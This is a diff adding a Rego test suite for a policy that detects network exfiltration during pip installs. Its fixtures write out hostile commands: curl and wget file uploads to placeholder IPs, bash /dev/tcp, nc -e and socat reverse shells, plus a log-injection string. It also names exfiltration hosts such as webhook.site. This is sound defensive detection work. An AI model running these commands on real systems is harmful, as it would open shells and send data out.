@@ -1,0 +1,271 @@
+package pip_witness.network_exfiltration_test
+
+import data.pip_witness.lib.fixture
+import data.pip_witness.network_exfiltration
+
+import rego.v1
+
+_found(processes) := found if {
+	messages := network_exfiltration.deny with input as fixture.install(processes)
+	found := fixture.findings(messages)
+}
+
+_connecting(role, connections) := [fixture.process(role, {"network": {"connections": connections}})]
+
+_build(connections) := _found(_connecting("build-child", connections))
+
+_code(connections) := _found(_connecting("package-code", connections))
+
+_running(program, args) := _found([fixture.process("build-child", {"program": program, "execs": fixture.ran(program, args)})])
+
+test_quiet_installer if {
+	_found([]) == set()
+	count(network_exfiltration.deny) == 0 with input as fixture.install([])
+}
+
+# What pip's own children do: a probe of the system, with failed searches.
+test_quiet_probe if {
+	_found([fixture.process("installer", {
+		"program": "/usr/bin/uname",
+		"execs": [
+			{"program": "/usr/local/bin/uname", "argv": ["uname", "-rs"], "errno": "ENOENT"},
+			{"program": "/usr/bin/uname", "argv": ["uname", "-rs"]},
+		],
+	})]) == set()
+}
+
+# urllib3's test for IPv6, and sockets of the C library.
+test_quiet_library_sockets if {
+	_build([
+		{"syscall": "bind", "family": "AF_INET6", "address": "::1", "port": 0, "type": "SOCK_STREAM", "fd": 3},
+		{"syscall": "connect", "family": "AF_UNIX", "address": "/dev/log"},
+		{"syscall": "sendto", "family": "AF_NETLINK", "address": "0"},
+		fixture.datagram("connect", "127.0.0.53", 53),
+		fixture.datagram("connect", "192.0.2.80", 443),
+		fixture.datagram("connect", "192.0.2.81", 0),
+		fixture.datagram("connect", "127.0.0.1", 443),
+	]) == set()
+}
+
+# A name server that the installer asked, or that the sandbox states, is the system's.
+test_quiet_resolver if {
+	evidence := object.union(
+		fixture.install(_connecting("build-child", [fixture.datagram("sendto", "198.51.100.53", 53)])),
+		{"coverage": object.union(fixture.coverage, {"sandbox": {"resolvers": ["198.51.100.53"]}})},
+	)
+	count(network_exfiltration.deny) == 0 with input as evidence
+	_found(array.concat(
+		_connecting("installer", [fixture.datagram("connect", "198.51.100.53", 53)]),
+		_connecting("build-child", [fixture.datagram("connect", "198.51.100.53", 53)]),
+	)) == set()
+}
+
+test_quiet_compiler if {
+	_running("/usr/bin/gcc", ["-O3", "-d", "-T", "-c", "x.c", "-o", "x.o"]) == set()
+	_running("/usr/bin/curl", ["--version"]) == set()
+	_running("/usr/bin/curl-config", ["--libs"]) == set()
+	_running("/usr/bin/rsync", ["-a", "src/", "dst/"]) == set()
+}
+
+test_metadata_service if {
+	some address in ["169.254.169.254", "::ffff:169.254.169.254", "fd00:ec2::254"]
+	"CRITICAL:NET_IMDS_ACCESS" in _build([fixture.connection(address, 80)])
+}
+
+test_metadata_service_by_name if {
+	"CRITICAL:NET_IMDS_ACCESS" in _build([object.union(
+		fixture.connection("198.51.100.1", 80),
+		{"hostname": "metadata.google.internal"},
+	)])
+}
+
+test_build_connection if {
+	_build([fixture.connection("10.1.2.3", 443)]) == {"HIGH:NET_BUILD_CONNECT"}
+	_build([fixture.connection("127.0.0.1", 443)]) == set()
+}
+
+test_raw_address if {
+	_build([fixture.connection("198.51.100.10", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
+	_build([fixture.connection("2001:db8::10", 4444)]) == {
+		"CRITICAL:NET_RAW_IP", "HIGH:NET_SUSPICIOUS_PORT", "HIGH:NET_BUILD_CONNECT",
+	}
+	_build([fixture.datagram("sendto", "198.51.100.10", 9999)]) == {"CRITICAL:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
+	_build([fixture.connection("not an address", 443)]) == {"HIGH:NET_RAW_IP", "HIGH:NET_BUILD_CONNECT"}
+}
+
+test_suspicious_port if {
+	_build([fixture.connection("198.51.100.10", 8080)]) == {
+		"CRITICAL:NET_RAW_IP", "HIGH:NET_SUSPICIOUS_PORT", "HIGH:NET_BUILD_CONNECT",
+	}
+}
+
+# The idiom to learn one's own address, which sends nothing.
+test_own_address if {
+	_build([fixture.datagram("connect", "8.8.8.8", 80)]) == {"MEDIUM:NET_RAW_IP", "MEDIUM:NET_DNS_FOREIGN_RESOLVER"}
+	_code([fixture.datagram("connect", "10.255.255.255", 1)]) == {"MEDIUM:NET_NONPIP_PROCESS_CONNECT"}
+}
+
+test_foreign_resolver if {
+	_code([fixture.datagram("sendto", "198.51.100.53", 53)]) == {
+		"CRITICAL:NET_RAW_IP", "HIGH:NET_DNS_FOREIGN_RESOLVER", "HIGH:NET_NONPIP_PROCESS_CONNECT",
+	}
+	"HIGH:NET_DNS_FOREIGN_RESOLVER" in _code([object.union(
+		fixture.connection("198.51.100.53", 443),
+		{"hostname": "dns.google"},
+	)])
+}
+
+test_package_code_connects if {
+	_code([fixture.connection("127.0.0.1", 8126)]) == {"HIGH:NET_NONPIP_PROCESS_CONNECT"}
+}
+
+test_index_by_others if {
+	_code([fixture.connection("127.0.0.1", 40123)]) == {"CRITICAL:NET_NONPIP_INDEX"}
+	_build([fixture.connection("127.0.0.1", 40123)]) == {"CRITICAL:NET_NONPIP_INDEX"}
+}
+
+_named(host) := _code([object.union(fixture.connection("198.51.100.10", 443), {"hostname": host})])
+
+test_hosts if {
+	_named("x.webhook.site") == {
+		"CRITICAL:NET_EXFIL_SERVICE", "HIGH:NET_UNEXPECTED_HOST", "HIGH:NET_NONPIP_PROCESS_CONNECT",
+	}
+	"MEDIUM:NET_EXFIL_SERVICE" in _named("a.pages.dev")
+	"HIGH:NET_BLOCKCHAIN_C2" in _named("x.raw.icp0.io")
+	"CRITICAL:NET_PUBLISH_ENDPOINT" in _named("API.github.com")
+	"MEDIUM:NET_IP_LOOKUP" in _named("api.ipify.org")
+	"CRITICAL:NET_TOR" in _named("abcdef.onion")
+	"CRITICAL:NET_K8S_API" in _named("kubernetes.default.svc")
+	_named("webhook.site.example") == {"HIGH:NET_UNEXPECTED_HOST", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
+}
+
+test_host_in_argument if {
+	_running("/usr/bin/git", ["clone", "https://user@webhook.site/x"]) == {"CRITICAL:NET_EXFIL_SERVICE"}
+}
+
+_queries(names) := _found([fixture.process("package-code", {"network": {"dnsLookups": [{
+	"serverAddress": "127.0.0.53",
+	"serverPort": 53,
+	"query": name,
+} |
+	some name in names
+]}})])
+
+test_tunnel if {
+	_queries([sprintf("%s.%d.t.example.com.", [concat("", ["a" | some _ in numbers.range(1, 44)]), i]) | some i in [1, 2, 3]]) == {
+		"CRITICAL:NET_DNS_TUNNEL", "HIGH:NET_UNEXPECTED_HOST",
+	}
+	"CRITICAL:NET_DNS_TUNNEL" in _queries([sprintf("0123456789abcdef0123456789abcdef%d.t.example.com", [i]) | some i in [1, 2, 3]])
+	"CRITICAL:NET_DNS_TUNNEL" in _queries([sprintf("part%dabcdefghijklmnop.example.com", [i]) | some i in numbers.range(1, 12)])
+	_queries(["d1234abcd.cloudfront.example", "localhost", ""]) == {"HIGH:NET_UNEXPECTED_HOST"}
+}
+
+test_upload_tools if {
+	_running("/usr/bin/curl", ["-s", "-T", "/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/curl", ["-F", "file=@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/curl", ["--data-binary", "@/tmp/a", "https://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/wget", ["--post-file=/tmp/a", "http://198.51.100.3/"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/scp", ["a", "host:"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+	_running("/usr/bin/rsync", ["a", "u@host:x"]) == {"CRITICAL:NET_EXFIL_TOOL"}
+}
+
+test_download_tools if {
+	_running("/usr/bin/curl", ["-sSfL", "https://198.51.100.3/x"]) == {"HIGH:NET_DOWNLOAD_TOOL"}
+	_running("/usr/bin/curl", ["-k", "-L", "-s", "https://198.51.100.3/x"]) == {"CRITICAL:NET_DOWNLOAD_TOOL"}
+}
+
+test_reverse_shell if {
+	_found([fixture.process("package-code", {
+		"network": {"connections": [fixture.connection("10.0.0.66", 4000)]},
+		"syscallEvents": [{"syscall": "dup2", "detail": "", "args": [7, 0]}, {"syscall": "dup2", "detail": "", "args": [4, 1]}],
+	})]) == {"CRITICAL:NET_REVERSE_SHELL", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
+	_running("/bin/bash", ["-c", "bash -i >& /dev/tcp/198.51.100.66/4444 0>&1"]) == {"CRITICAL:NET_REVERSE_SHELL"}
+	"CRITICAL:NET_REVERSE_SHELL" in _running("/bin/nc", ["-e", "/bin/sh", "198.51.100.66", "4444"])
+	"CRITICAL:NET_REVERSE_SHELL" in _running("/usr/bin/socat", ["TCP:198.51.100.66:4444", "EXEC:/bin/sh"])
+}
+
+# A pipe in place of the standard streams is how every program is started.
+test_quiet_pipes if {
+	_found([fixture.process("build-child", {"syscallEvents": [{"syscall": "dup2", "detail": "", "args": [5, 1]}]})]) == set()
+}
+
+test_listeners if {
+	_code([object.union(fixture.connection("0.0.0.0", 31337), {"syscall": "bind"})]) == {"MEDIUM:NET_LISTENER"}
+	_code([object.union(fixture.connection("10.0.0.5", 31337), {"syscall": "listen"})]) == {"HIGH:NET_LISTENER"}
+}
+
+test_raw_sockets if {
+	_found([fixture.process("package-code", {"network": {"sockets": [
+		{"family": "AF_PACKET", "type": "SOCK_DGRAM", "protocol": 3, "fd": 3},
+		{"family": "AF_INET", "type": "SOCK_RAW", "protocol": 1, "fd": 4},
+	]}})]) == {"HIGH:NET_RAW_SOCKET"}
+	_found([fixture.process("package-code", {"network": {"sockets": [{"family": "AF_VSOCK", "type": "SOCK_STREAM", "protocol": 0, "fd": 3}]}})]) == set()
+}
+
+test_tor if {
+	"CRITICAL:NET_TOR" in _code([fixture.connection("127.0.0.1", 9050)])
+	"CRITICAL:NET_TOR" in _code([fixture.connection("198.51.100.9", 9001)])
+}
+
+test_kubernetes if {
+	"CRITICAL:NET_K8S_API" in _code([fixture.connection("10.96.0.1", 443)])
+	"CRITICAL:NET_K8S_API" in _code([fixture.connection("10.0.0.7", 10250)])
+}
+
+test_lateral_scan if {
+	found := _code([fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 6)])
+	"HIGH:NET_LATERAL_SCAN" in found
+	not "HIGH:NET_LATERAL_SCAN" in _code([fixture.connection(sprintf("10.0.0.%d", [i]), 22) | some i in numbers.range(1, 4)])
+}
+
+test_clear_text if {
+	_code([fixture.connection("10.0.0.80", 80)]) == {"MEDIUM:NET_CLEARTEXT_HTTP", "HIGH:NET_NONPIP_PROCESS_CONNECT"}
+}
+
+test_not_evaluated if {
+	answers := network_exfiltration.not_evaluated with input as fixture.install([])
+	answers == {
+		"NET_UPLOAD_ASYMMETRY: the number of bytes sent and received is not in the evidence",
+		"NET_SNI_ADDR_MISMATCH: the answers of the name service are not in the evidence",
+		"NET_EXFIL_SERVICE: the evidence names no host, in connections or in name queries",
+		"NET_UNEXPECTED_HOST: the evidence names no host, in connections or in name queries",
+		"NET_BLOCKCHAIN_C2: the evidence names no host, in connections or in name queries",
+		"NET_PUBLISH_ENDPOINT: the evidence names no host, in connections or in name queries",
+		"NET_IP_LOOKUP: the evidence names no host, in connections or in name queries",
+		"NET_DNS_TUNNEL: the evidence names no host, in connections or in name queries",
+	}
+	blind := network_exfiltration.not_evaluated with input as {"processes": [], "coverage": {"trapped": ["execve"]}}
+	"NET_LISTENER: not observed: bind, listen" in blind
+	unknown := network_exfiltration.not_evaluated with input as {"processes": [{"network": {"dnsLookups": [{"serverPort": 53}]}}]}
+	"NET_LISTENER: the evidence does not say which system calls were observed" in unknown
+	"NET_DNS_TUNNEL: the evidence names no host, in connections or in name queries" in unknown
+}
+
+# What a package chooses cannot end its quotes or start another finding.
+test_hostile_text if {
+	messages := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {
+		"program": "/tmp/\"x\nCRITICAL:FORGED: \u001b[2J\u202e",
+		"network": {"connections": [fixture.connection("10.1.2.3", 443)]},
+	})])
+	some message in messages
+	not regex.match(`[\n\x{1b}\x{202e}]`, message)
+	contains(message, "/tmp/%22x%0ACRITICAL:FORGED: %1B[2J%E2%80%AE")
+	long := network_exfiltration.deny with input as fixture.install([fixture.process("build-child", {
+		"program": sprintf("/tmp/%s", [concat("", ["a" | some _ in numbers.range(1, 5000)])]),
+		"network": {"connections": [fixture.connection("10.1.2.3", 443)]},
+	})])
+	every message in long {
+		count(message) < 500
+	}
+}
+
+# Evidence of other tools: no role, no attempts of exec.
+test_foreign_evidence if {
+	processes := [
+		{"processid": 10, "parentpid": 1, "program": "/usr/bin/python3", "cmdline": "python3 -m pip install demo", "network": {"connections": [fixture.connection("198.51.100.10", 443)]}},
+		{"processid": 11, "parentpid": 10, "program": "/usr/bin/curl", "cmdline": "curl -T x https://198.51.100.3/"},
+	]
+	fixture.findings(network_exfiltration.deny) == {"CRITICAL:NET_EXFIL_TOOL"} with input as {"processes": processes}
+	other := [object.union(processes[0], {"cmdline": "make"})]
+	fixture.findings(network_exfiltration.deny) == {"HIGH:NET_RAW_IP", "HIGH:NET_NONPIP_PROCESS_CONNECT"} with input as {"processes": other}
+}
